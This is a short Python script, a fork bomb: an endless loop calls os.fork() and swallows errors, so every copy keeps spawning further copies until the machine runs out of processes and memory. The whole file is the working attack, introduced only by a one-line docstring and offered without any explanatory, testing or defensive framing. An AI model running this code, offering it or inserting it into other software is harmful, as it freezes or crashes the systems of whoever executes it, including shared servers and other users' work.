"""Forks without end, and every copy goes on."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
